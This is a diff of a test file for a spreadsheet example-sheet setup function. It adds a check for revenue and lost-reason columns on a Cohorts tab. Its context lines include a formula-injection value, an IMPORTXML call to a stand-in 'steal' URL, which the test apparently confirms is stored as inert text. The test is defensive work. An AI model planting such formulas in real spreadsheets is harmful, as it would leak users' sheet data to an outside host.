@@ -81,6 +81,8 @@ describe('setUpExampleSheets', () => {
     expect(leads.formulaCount()).toBe(0);
     expect(v.some((r) => r[2] === '=IMPORTXML("https://example.com/steal","//a")')).toBe(true);
     expect(v.some((r) => r[5] === '-1+2')).toBe(true);
+    // The sample has amounts and lost reasons: the Cohorts tab shows money and losses beside the funnel.
+    expect(ss.sheet('Cohorts').peekValues()[2]).toEqual(expect.arrayContaining(['Won revenue', 'Average deal', 'Lost', 'Top lost reasons']));
 
     expect(w.properties.document.store.get(LEADS_SHEET_KEY)).toBe('Leads');
     expect(JSON.parse(w.properties.document.store.get(CONFIG_KEY)!)).toEqual({ ...SAMPLE_CONFIG, timeZone: 'Europe/Moscow', locale: 'en' });
